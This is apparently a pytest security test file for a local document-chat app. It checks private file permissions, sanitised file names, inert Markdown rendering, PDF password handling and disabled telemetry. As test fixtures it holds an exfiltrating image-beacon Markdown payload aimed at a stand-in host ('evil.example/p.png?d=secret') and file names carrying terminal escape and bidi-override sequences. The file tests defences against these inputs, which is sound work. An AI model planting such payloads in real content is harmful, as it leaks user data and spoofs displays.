"""Private files, safe names, inert Markdown, PDF passwords out of argv, errors translated, no telemetry."""

from __future__ import annotations

import io
import os
import runpy
import stat
import sys
from pathlib import Path

import pytest

from memchat import config, fsperm
from memchat.knowledge import KnowledgeBase
from memchat.names import clean_name, escape_controls
from memchat.store import EncryptedStore
from tests.fakes import FakeEmbedder

REPO = Path(__file__).resolve().parents[1]
DATA = REPO.parent / "shared" / "data"
QA_PDFS = sorted((DATA / "qa_dev" / "pdfs").glob("*.pdf"))
LOCKED = DATA / "pdfs" / "bad" / "password-example.pdf"  # user password "test" (PROVENANCE.md)
# One sentence, so the evidence line (a caption, Markdown) quotes the injected constructs whole.
EVIL_MD = ("Granite is an igneous rock formed from magma ![pixel](http://evil.example/p.png?d=secret) and "
           "[click here](http://evil.example/c) <http://evil.example/a> www.evil.example deep in the crust.")


@pytest.fixture
def umask_022():
    old = os.umask(0o022)  # the usual default: new files 0644 unless we say otherwise
    yield
    os.umask(old)


def modes(root: Path) -> dict[str, int]:
    out = {".": stat.S_IMODE(root.stat().st_mode)}
    for p in root.rglob("*"):
        out[str(p.relative_to(root))] = stat.S_IMODE(p.lstat().st_mode)
    return out


def assert_private(root: Path) -> None:
    for name, mode in modes(root).items():
        p = root if name == "." else root / name
        want = fsperm.DIR_MODE if p.is_dir() else fsperm.FILE_MODE
        assert mode == want, f"{p}: {oct(mode)}, want {oct(want)}"


def make_pdf(text: str) -> bytes:
    """A one-page PDF whose text layer is ``text`` (Helvetica, one line per 90 characters)."""
    lines = [text[i:i + 90] for i in range(0, len(text), 90)]
    esc = [ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for ln in lines]
    content = "BT /F1 10 Tf 40 750 Td 14 TL " + " ".join(f"({ln}) '" for ln in esc) + " ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = b"%PDF-1.4\n", []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n{obj}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


# ---------------------------------------------------------------------------
# Permissions
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("secret", ["key-file", "passphrase"])
def test_store_is_owner_only_under_umask_022(monkeypatch, umask_022, secret):
    if secret == "passphrase":
        monkeypatch.setenv("MEMCHAT_PASSPHRASE", "a passphrase for the modes test")
    k = KnowledgeBase(embedder=FakeEmbedder())
    k.add_documents(QA_PDFS[:2])
    k.remove(QA_PDFS[0].name)  # a second commit
    d = config.storage_dir()
    names = set(modes(d))
    assert {config.INDEX_FILENAME, config.METADATA_FILENAME, config.VERSIONS_FILENAME} <= names
    assert ("kdf.json" if secret == "passphrase" else config.KEY_FILENAME) in names
    assert_private(d)


def test_store_found_loose_is_tightened(umask_022):
    KnowledgeBase(embedder=FakeEmbedder()).add_documents(QA_PDFS[:1])
    d = config.storage_dir()
    d.chmod(0o755)
    for p in d.iterdir():
        p.chmod(0o644)  # as the first release left them, or a copy made with cp under umask 022
    assert KnowledgeBase(embedder=FakeEmbedder()).documents()  # any open
    assert_private(d)


def test_rekeyed_store_is_owner_only(monkeypatch, umask_022):
    from memchat.crypto import new_secret

    KnowledgeBase(embedder=FakeEmbedder()).add_documents(QA_PDFS[:1])
    EncryptedStore().rekey(new_secret(passphrase="the new one, long enough"))
    assert_private(config.storage_dir())
    monkeypatch.setenv("MEMCHAT_PASSPHRASE", "the new one, long enough")
    EncryptedStore().rekey(new_secret())  # back to a fresh key.key
    assert_private(config.storage_dir())


def test_fsperm_helpers_under_umask_022(tmp_path, umask_022):
    root = tmp_path / "training_data"
    fsperm.write_private(root / "faiss_training_data.json", "{}")
    with fsperm.open_private_append(root / "extract_progress.jsonl") as f:
        f.write("{}\n")
    fsperm.private_dir(root / "sub" / "deeper")
    assert_private(root)

    loose = tmp_path / "finetuned_model"
    (loose / "runs").mkdir(parents=True)
    (loose / "model.safetensors").write_bytes(b"x")
    (loose / "runs" / "events").write_bytes(b"x")
    os.symlink("/etc/hostname", loose / "link")  # symlinks are left alone (their target is not ours)
    assert modes(loose)["."] == 0o755
    fsperm.tighten_tree(loose)
    (loose / "link").unlink()
    assert_private(loose)
    assert stat.S_IMODE(os.stat("/etc/hostname").st_mode) & 0o044  # the target was not touched


def test_eval_results_are_owner_only(tmp_path, umask_022):
    from memchat.evaluate import EvalConfig, evaluate
    from tests.test_evaluate import QS, FixedSystem

    out = tmp_path / "eval_results"
    out.mkdir(mode=0o755)  # as an older run left it
    report = evaluate(QS, [FixedSystem("rag", {q.question: q.answers[0] for q in QS})], EvalConfig(batch_size=4, top_k=1),
                      questions_file="qs.jsonl")
    report.save_json(out / "run.json")
    report.save_chart(out / "run.png")  # matplotlib writes 0644 on its own
    assert set(modes(out)) == {".", "run.json", "run.png"}
    assert_private(out)


# ---------------------------------------------------------------------------
# Names
# ---------------------------------------------------------------------------
def test_control_characters_stripped_at_ingest(monkeypatch, capsys):
    evil = "report\n2024-01-01  fake row\x1b[2J\x1b]0;pwned\x07\u202eevil.pdf"
    KnowledgeBase(embedder=FakeEmbedder()).add_documents([(evil, QA_PDFS[0].read_bytes())])
    [doc] = KnowledgeBase().documents()
    assert doc["name"] == "report2024-01-01  fake row[2J]0;pwnedevil.pdf"
    assert clean_name("\n\x1b") == "document.pdf"


def _rename_in_store(old: str, new: str) -> None:
    """Give a stored document a raw name, as a store from before the sanitising would hold."""
    store = EncryptedStore()
    with store.transaction() as state:
        docs = state.versions["documents"]
        docs[new] = dict(docs.pop(old), name=new)
        for c in state.metadata["chunks"].values():
            if c["document"] == old:
                c["document"] = new
        store.commit(state)


def test_old_names_list_and_remove_escaped(monkeypatch, capsys):
    KnowledgeBase(embedder=FakeEmbedder()).add_documents(QA_PDFS[:2])
    raw = "a.pdf\nb.pdf     99   999  2099-01-01 00:00\x1b[31m"
    _rename_in_store(QA_PDFS[0].name, raw)
    monkeypatch.setattr(sys, "argv", ["main.py", "list"])
    with pytest.raises(SystemExit) as exc:
        runpy.run_path(str(REPO / "main.py"), run_name="__main__")
    out = capsys.readouterr().out
    assert exc.value.code == 0
    assert "\x1b" not in out and len(out.strip().splitlines()) == 3  # header + two documents: no fake row
    assert "a.pdf\\nb.pdf" in out and "\\x1b[31m" in out

    shown = escape_controls(raw)  # what `list` printed: the user can paste it
    monkeypatch.setattr(sys, "argv", ["main.py", "remove", shown])
    with pytest.raises(SystemExit) as exc:
        runpy.run_path(str(REPO / "main.py"), run_name="__main__")
    out = capsys.readouterr().out
    assert exc.value.code == 0 and "\x1b" not in out and "\n" not in out.strip()
    assert [d["name"] for d in KnowledgeBase().documents()] == [QA_PDFS[1].name]


# ---------------------------------------------------------------------------
# Markdown from documents and models is shown as text
# ---------------------------------------------------------------------------
def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def test_md_escape_leaves_no_live_construct():
    from memchat.ui.common import md_escape

    evil = EVIL_MD + " <img src=http://e/x> $\\href{http://e}{x}$ :red[x] [ref]: http://evil.example\n\x1b[2J"
    assert "<img" in _html(evil) and "<a " in _html(evil)  # the attack, unescaped
    html = _html(md_escape(evil))
    assert "<img" not in html and "<a " not in html and "\x1b" not in html
    assert "http://evil.example/p.png?d=secret" in html  # still readable, as text
    # What CommonMark lacks but Streamlit's renderer adds: GFM bare autolinks, KaTeX, :color[] directives
    assert "http\\://" in md_escape(evil) and "www\\." in md_escape(evil)
    assert "\\$" in md_escape(evil) and ":red\\[" in md_escape(evil)


def test_streamed_answer_with_markdown_renders_as_text():
    from streamlit.testing.v1 import AppTest

    def app():
        from memchat.ui.common import show_text, stream_text

        pieces = ["The answer: ![pix", "el](http://evil.ex", "ample/p.png) and [x](http://evil.example)"]
        text = stream_text(iter(pieces))
        show_text(text)

    at = AppTest.from_function(app).run()
    assert not at.exception
    assert len(at.markdown) == 2
    for m in at.markdown:
        assert "<img" not in _html(m.value) and "<a " not in _html(m.value)
        assert "evil.ex" in m.value


def test_pdf_with_markdown_link_renders_as_text_in_the_app(monkeypatch, tiny_qwen_dir):
    from streamlit.testing.v1 import AppTest

    from tests.test_finetuned import fake_embedder

    fake_embedder(monkeypatch)
    monkeypatch.setenv("MEMCHAT_LLM", str(tiny_qwen_dir))
    results = KnowledgeBase(embedder=FakeEmbedder()).add_documents([("rocks.pdf", make_pdf(EVIL_MD))])
    assert results[0].status == "added", results[0].message
    at = AppTest.from_file(str(REPO / "main.py"), default_timeout=240).run()
    assert not at.exception
    at.chat_input[0].set_value("What is granite?").run()
    assert not at.exception
    msg = at.chat_message[-1]
    assert any("evil.example" in t.value for t in msg.get("text"))  # the passage, as plain text
    everything = [m.value for m in at.markdown] + [c.value for c in at.caption]
    assert any("evil.example/p.png" in c.value for c in msg.caption)  # the evidence line quotes the passage...
    for v in everything:  # ...and nothing of it is live
        html = _html(v)
        assert "<img" not in html and "<a " not in html, v


# ---------------------------------------------------------------------------
# Errors in the apps: translated, never a traceback
# ---------------------------------------------------------------------------
def test_remove_error_in_the_app_is_one_error(monkeypatch, tiny_qwen_dir):
    from streamlit.testing.v1 import AppTest

    from memchat.errors import StoreError
    from tests.test_finetuned import fake_embedder

    fake_embedder(monkeypatch)
    monkeypatch.setenv("MEMCHAT_LLM", str(tiny_qwen_dir))
    KnowledgeBase(embedder=FakeEmbedder()).add_documents(QA_PDFS[:1])

    def broken_remove(self, name):
        raise StoreError("encrypted_faiss_storage/ is locked by another Mem_Chat process")

    monkeypatch.setattr(KnowledgeBase, "remove", broken_remove)
    at = AppTest.from_file(str(REPO / "main.py"), default_timeout=240).run()
    next(b for b in at.sidebar.button if b.key == f"rm-{QA_PDFS[0].name}").click().run()
    assert not at.exception
    assert any("locked by another" in e.value for e in at.sidebar.error)


# ---------------------------------------------------------------------------
# PDF passwords: env var or prompt, not argv
# ---------------------------------------------------------------------------
def _add(monkeypatch, *argv: str, stdin=None) -> int:
    from tests.test_finetuned import fake_embedder

    fake_embedder(monkeypatch)
    monkeypatch.setattr(sys, "argv", ["main.py", "add", *argv])
    monkeypatch.setattr(sys, "stdin", stdin or io.StringIO(""))
    with pytest.raises(SystemExit) as exc:
        runpy.run_path(str(REPO / "main.py"), run_name="__main__")
    return exc.value.code


def test_pdf_password_from_env(monkeypatch, capsys):
    monkeypatch.setenv("MEMCHAT_PDF_PASSWORD", "test")
    assert _add(monkeypatch, str(LOCKED), str(QA_PDFS[0])) == 0  # tried on the encrypted one, ignored by the other
    out, err = capsys.readouterr()
    assert f"{LOCKED.name}: added" in out and "Warning" not in err


def test_pdf_password_prompted(monkeypatch, capsys):
    import getpass

    asked = []
    monkeypatch.setattr(getpass, "getpass", lambda prompt="": asked.append(prompt) or "test")
    assert _add(monkeypatch, str(LOCKED), "--password", LOCKED.name) == 0
    assert asked == [f"Password for {LOCKED.name}: "] and "Warning" not in capsys.readouterr().err


def test_pdf_password_prompted_after_failure_at_a_terminal(monkeypatch, capsys):
    import getpass

    tty = io.StringIO("")
    tty.isatty = lambda: True
    monkeypatch.setattr(getpass, "getpass", lambda prompt="": "test")
    assert _add(monkeypatch, str(LOCKED), stdin=tty) == 0
    assert f"{LOCKED.name}: added" in capsys.readouterr().out


def test_pdf_password_in_argv_still_works_with_a_warning(monkeypatch, capsys):
    assert _add(monkeypatch, str(LOCKED), "--password", f"{LOCKED.name}=test") == 0
    out, err = capsys.readouterr()
    assert f"{LOCKED.name}: added" in out
    assert err.count("Warning: --password NAME=PASSWORD leaves the password in ps") == 1


# ---------------------------------------------------------------------------
# Telemetry
# ---------------------------------------------------------------------------
def test_onnx_runtime_telemetry_is_disabled_when_the_embedder_loads(monkeypatch):
    import onnxruntime

    from memchat.embeddings import Embedder

    calls = []
    real = onnxruntime.disable_telemetry_events
    monkeypatch.setattr(onnxruntime, "disable_telemetry_events", lambda: calls.append(1) or real())
    assert Embedder(backend="onnx-int8").encode(["one sentence"]).shape == (1, 384)
    assert calls, "disable_telemetry_events was not called"


# ---------------------------------------------------------------------------
# The whole pipeline's folders, every file and folder in them, under umask 022
# ---------------------------------------------------------------------------
def _script(monkeypatch, script: str, *argv: str) -> int:
    monkeypatch.setattr(sys, "argv", [script, *argv])
    with pytest.raises(SystemExit) as exc:
        runpy.run_path(str(REPO / script), run_name="__main__")
    return exc.value.code


def test_training_data_and_model_are_owner_only_under_umask_022(monkeypatch, capsys, umask_022, tiny_gpt2_dir):
    from tests.test_finetuned import fake_embedder

    fake_embedder(monkeypatch)
    KnowledgeBase(embedder=FakeEmbedder()).add_documents(QA_PDFS[:1])
    assert _script(monkeypatch, "extract_faiss_data.py", "--no-questions", "--quiet") == 0, capsys.readouterr().err
    assert _script(monkeypatch, "train_conversational.py", "--model", str(tiny_gpt2_dir), "--max-steps", "1",
                   "--quiet") == 0, capsys.readouterr().err
    for folder in (config.training_dir(), config.finetuned_dir()):
        assert len(modes(folder)) > 2, folder  # something was written
        assert_private(folder)  # recursively: runs/, hidden files, exports


def test_app_refuses_an_upload_over_the_per_file_cap(monkeypatch):
    from types import SimpleNamespace

    from memchat.cli import max_file_bytes, max_upload_mb
    from memchat.ui.common import split_oversized

    monkeypatch.setenv("MEMCHAT_MAX_FILE_BYTES", str(3 << 20))
    assert max_file_bytes() == 3 << 20 and max_upload_mb() == 3  # what the launchers pass as maxUploadSize
    small, big = SimpleNamespace(name="a.pdf", size=1000), SimpleNamespace(name="big\n[x](y).pdf", size=(3 << 20) + 1)
    ok, refused = split_oversized([small, big])
    assert ok == [small] and len(refused) == 1
    assert "3,145,729 bytes, over the 3,145,728-byte limit" in refused[0] and "MEMCHAT_MAX_FILE_BYTES" in refused[0]
    assert "\n" not in refused[0] and "\\[x\\]" in refused[0]  # the name shown safely
